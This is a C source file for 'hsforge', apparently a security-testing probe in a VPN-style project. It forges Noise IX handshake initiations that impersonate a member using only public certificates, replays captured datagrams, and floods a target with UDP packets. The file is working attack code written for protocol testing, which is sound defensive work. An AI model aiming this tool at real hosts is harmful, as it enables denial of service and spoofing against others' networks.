/* SPDX-License-Identifier: MIT */
/*
 * hsforge: play an attacker who holds the network's CA certificate and a
 * member's certificate (both public), but not the member's private key.
 *
 * It sends Noise IX initiations that claim the member: its static key and
 * certificate, our own ephemeral key, any timestamp. Message 1 of IX needs no
 * Diffie-Hellman, so this costs the attacker nothing; a responder can only
 * tell it from the member's own initiation later, when the member (and only
 * the member) can use the keys of the response. Or it replays a captured
 * datagram as it is.
 *
 *   hsforge --ca ca.crt --cert MEMBER.crt --to IP:PORT [--ts WHEN] [--count N]
 *           [--interval MS] [--flood SECONDS] [--short] [--datapath FLAGS]
 *   hsforge --replay FILE --to IP:PORT [--count N] [--interval MS] [--flood SECONDS]
 *
 * --ts: "now" (default), "+MS" or "-MS" (that far from our clock when each is
 * sent), "max" (2^63), or nanoseconds. Each initiation is stamped at least
 * 1 ns after the one before, so that no two are copies. --flood sends as fast as the socket
 * takes them for SECONDS (in batches, with sendmmsg). --short leaves out the
 * padding, as a sender hoping for an answer larger than its question would.
 * --datapath adds the DATAPATH TLV with these capability flags (1: the
 * kernel path, 3: and ESP in UDP, to port 51821), as a kernel-path node's
 * initiation has it: the responder then derives ESP keys for the keypair.
 * Prints how many datagrams went out. Exit: 0, or 2 on a usage or local error.
 */
#include <errno.h>
#include <getopt.h>
#include <stdlib.h>
#include <unistd.h>
#include <sys/socket.h>

#include "probe.h"

enum { BATCH = 64 };

struct forge {
	struct probe_net net; /* key unused: we do not have it */
	uint8_t e_priv[WF_KEY_LEN], e_pub[WF_KEY_LEN];
	uint64_t ts;        /* the last stamp used */
	int64_t offset_ns;  /* relative stamps: the clock plus this */
	bool relative;
	uint32_t sender;
	bool short_msg;
	struct wf_esp_caps caps; /* --datapath: the DATAPATH TLV sent */
	uint8_t replay[WF_MAX_DATAGRAM];
	size_t replay_len;
};

/* One forged initiation: header, e, s (the member's key), payload in clear. */
static size_t forge_one(struct forge *f, uint8_t *pkt, size_t cap)
{
	uint8_t *noise = pkt + sizeof(struct wf_msg_init);
	size_t plen;

	if (cap < sizeof(struct wf_msg_init) + 64 + WF_INIT_MACS_LEN)
		return 0;
	memcpy(noise, f->e_pub, WF_KEY_LEN);
	memcpy(noise + WF_KEY_LEN, f->net.cert.pubkey, WF_KEY_LEN);
	if (f->relative && probe_realtime_ns() + (uint64_t)f->offset_ns > f->ts)
		f->ts = probe_realtime_ns() + (uint64_t)f->offset_ns;
	else
		f->ts++;
	plen = probe_payload_caps(&f->net.cert, f->ts, f->caps.flags ? &f->caps : NULL,
				  !f->short_msg, noise + 64,
				  cap - sizeof(struct wf_msg_init) - 64 - WF_INIT_MACS_LEN);
	return plen ? probe_hs_finish(&f->net, pkt, WF_MSG_HANDSHAKE_INIT, f->sender++, 0,
				      64 + plen)
		    : 0;
}

static size_t next_datagram(struct forge *f, uint8_t *pkt, size_t cap)
{
	if (f->replay_len) {
		memcpy(pkt, f->replay, f->replay_len);
		return f->replay_len;
	}
	return forge_one(f, pkt, cap);
}

static bool parse_ts(const char *s, struct forge *f)
{
	char *end;

	f->relative = s[0] == '+' || s[0] == '-' || !strcmp(s, "now");
	if (!strcmp(s, "now")) {
		f->offset_ns = 0;
	} else if (!strcmp(s, "max")) {
		f->ts = (1ULL << 63) - 1;
	} else if (f->relative) {
		long long ms = strtoll(s + 1, &end, 10);

		if (*end || ms < 0)
			return false;
		f->offset_ns = (s[0] == '+' ? 1 : -1) * ms * 1000000LL;
	} else {
		f->ts = strtoull(s, &end, 10) - 1;
		if (*end)
			return false;
	}
	return true;
}

static bool load_replay(struct forge *f, const char *path)
{
	FILE *fp = fopen(path, "rb");

	if (!fp)
		return false;
	f->replay_len = fread(f->replay, 1, sizeof(f->replay), fp);
	fclose(fp);
	return f->replay_len > 0;
}

static long flood(struct forge *f, int fd, const union wf_endpoint *to, int seconds)
{
	static uint8_t pkts[BATCH][WF_HANDSHAKE_MAX + 1];
	struct mmsghdr mm[BATCH];
	struct iovec iov[BATCH];
	int64_t end = probe_now_ms() + seconds * 1000LL;
	long sent = 0;

	while (probe_now_ms() < end) {
		int n;

		for (int i = 0; i < BATCH; i++) {
			iov[i].iov_base = pkts[i];
			iov[i].iov_len = next_datagram(f, pkts[i], sizeof(pkts[i]));
			memset(&mm[i], 0, sizeof(mm[i]));
			mm[i].msg_hdr.msg_name = (void *)&to->sa;
			mm[i].msg_hdr.msg_namelen = wf_endpoint_len(to);
			mm[i].msg_hdr.msg_iov = &iov[i];
			mm[i].msg_hdr.msg_iovlen = 1;
		}
		n = sendmmsg(fd, mm, BATCH, 0);
		if (n < 0 && errno != ENOBUFS && errno != EAGAIN)
			return -1;
		sent += n > 0 ? n : 0;
	}
	return sent;
}

int main(int argc, char **argv)
{
	static const struct option opts[] = {
	    {"ca", required_argument, NULL, 'c'},	{"cert", required_argument, NULL, 'C'},
	    {"to", required_argument, NULL, 't'},	{"ts", required_argument, NULL, 's'},
	    {"count", required_argument, NULL, 'n'},	{"interval", required_argument, NULL, 'i'},
	    {"flood", required_argument, NULL, 'f'},	{"replay", required_argument, NULL, 'r'},
	    {"short", no_argument, NULL, 'S'},		{"datapath", required_argument, NULL, 'd'},
	    {NULL, 0, NULL, 0},
	};
	const char *ca = NULL, *cert = NULL, *to = NULL, *ts = "now", *replay = NULL;
	static struct forge f;
	uint8_t pkt[WF_HANDSHAKE_MAX + 1];
	int c, fd, count = 1, interval = 0, seconds = 0;
	union wf_endpoint dst;
	long sent = 0;

	while ((c = getopt_long(argc, argv, "", opts, NULL)) != -1) {
		switch (c) {
		case 'c': ca = optarg; break;
		case 'C': cert = optarg; break;
		case 't': to = optarg; break;
		case 's': ts = optarg; break;
		case 'n': count = atoi(optarg); break;
		case 'i': interval = atoi(optarg); break;
		case 'f': seconds = atoi(optarg); break;
		case 'r': replay = optarg; break;
		case 'S': f.short_msg = true; break;
		case 'd': f.caps.flags = (uint8_t)atoi(optarg); f.caps.port = 51821; break;
		default: return 2;
		}
	}
	if (!to || !wf_endpoint_parse(&dst, to) || (!replay && (!ca || !cert)) ||
	    !parse_ts(ts, &f)) {
		fprintf(stderr, "usage: hsforge --ca F --cert F --to IP:PORT [--ts now|+MS|max|NS] "
				"[--count N] [--interval MS] [--flood S] [--short] [--datapath FLAGS]\n"
				"       hsforge --replay FILE --to IP:PORT [--count N] [--interval MS] "
				"[--flood S]\n");
		return 2;
	}
	wf_crypto_init();
	if (replay && !load_replay(&f, replay)) {
		fprintf(stderr, "hsforge: cannot read %s\n", replay);
		return 2;
	}
	if (!replay && (probe_load_public(&f.net, "hsforge", ca, cert) < 0 ||
			!wf_x25519_keygen(f.e_priv, f.e_pub) || !wf_random(&f.sender, 4)))
		return 2;
	fd = socket(dst.sa.sa_family, SOCK_DGRAM, 0);
	if (fd < 0)
		return 2;
	if (seconds > 0) {
		sent = flood(&f, fd, &dst, seconds);
	} else {
		for (int i = 0; i < count && sent >= 0; i++) {
			size_t len = next_datagram(&f, pkt, sizeof(pkt));

			if (!len || sendto(fd, pkt, len, 0, &dst.sa, wf_endpoint_len(&dst)) < 0)
				sent = -1;
			else
				sent++;
			if (interval && i + 1 < count)
				usleep((useconds_t)interval * 1000);
		}
	}
	close(fd);
	if (sent < 0) {
		perror("hsforge: send");
		return 2;
	}
	printf("%ld\n", sent);
	return 0;
}
